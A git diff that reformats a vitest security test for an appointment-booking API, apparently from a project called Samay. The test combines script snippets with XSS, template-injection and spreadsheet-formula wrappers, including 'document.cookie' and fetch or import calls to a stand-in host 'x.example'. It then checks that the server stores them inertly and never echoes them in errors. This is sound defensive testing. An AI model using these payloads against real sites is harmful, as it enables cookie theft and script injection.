@@ -1,4 +1,9 @@
-import { correctAppointment, createAppointment, getAppointment, listAppointments } from '@samay/contract/bookings/appointments';
+import {
+  correctAppointment,
+  createAppointment,
+  getAppointment,
+  listAppointments,
+} from '@samay/contract/bookings/appointments';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { testApp, type TestApp } from './fixtures/app.ts';
 import { buildTenant, signInAs } from './fixtures/builders.ts';
@@ -7,9 +12,17 @@ import { testEngine } from './fixtures/database.ts';
 import { isFull, printInvariant } from './fixtures/invariants/invariant.ts';
 import { newAppointment } from './fixtures/samples.ts';
 
-// A18, on the server: a script in a text field is stored and returned unchanged, as JSON that no browser renders as a page.
+// A18, on the server: a script in a text field is stored and returned unchanged, as JSON that no
+// browser renders as a page.
 
-const code = ['alert(1)', 'alert`1`', 'import("//x.example")', 'top.location="//x.example"', 'document.cookie', 'fetch("//x.example")'];
+const code = [
+  'alert(1)',
+  'alert`1`',
+  'import("//x.example")',
+  'top.location="//x.example"',
+  'document.cookie',
+  'fetch("//x.example")',
+];
 const wrappers = [
   (js: string) => `<script>${js}</script>`,
   (js: string) => `"><script>${js}</script>`,
@@ -22,8 +35,12 @@ const wrappers = [
   (js: string) => `{{constructor.constructor('${js}')()}}`,
   (js: string) => `=HYPERLINK("${js}")`,
 ];
-/** Every script in every wrapper. An ordinary run uses each script and each wrapper at least once. */
-const payloads = wrappers.flatMap((wrap, index) => code.filter((_, at) => isFull || at === index % code.length).map(wrap));
+/**
+ * Every script in every wrapper. An ordinary run uses each script and each wrapper at least once.
+ */
+const payloads = wrappers.flatMap((wrap, index) =>
+  code.filter((_, at) => isFull || at === index % code.length).map(wrap),
+);
 const textFields = ['personName', 'doctor', 'personContact', 'paymentId'] as const;
 const longest = { personName: 120, doctor: 120, personContact: 40, paymentId: 100 };
 
@@ -61,14 +78,21 @@ it('returns scripts in every text field unchanged, as JSON', async () => {
 it('stores no script as a payment method: every input becomes one of six values', async () => {
   const { body } = await desk.call(createAppointment, { body: newAppointment });
   for (const payload of payloads.filter(({ length }) => length <= 40)) {
-    const corrected = await desk.call(correctAppointment, { params: { id: body.id }, body: { paymentMethod: payload } });
-    expect(['UPI', 'Card', 'Net Banking', 'Wallet', 'Cash', 'Online']).toContain(corrected.body.paymentMethod);
+    const corrected = await desk.call(correctAppointment, {
+      params: { id: body.id },
+      body: { paymentMethod: payload },
+    });
+    expect(['UPI', 'Card', 'Net Banking', 'Wallet', 'Cash', 'Online']).toContain(
+      corrected.body.paymentMethod,
+    );
   }
 });
 
 it('repeats nothing of a request in an error', async () => {
   for (const payload of payloads) {
-    const refused = await desk.send(createAppointment, { body: { ...newAppointment, date: payload, amount: payload } });
+    const refused = await desk.send(createAppointment, {
+      body: { ...newAppointment, date: payload, amount: payload },
+    });
     expect(refused.status).toBe(400);
     expect(JSON.stringify(refused.body)).not.toContain(JSON.stringify(payload).slice(1, -1));
   }
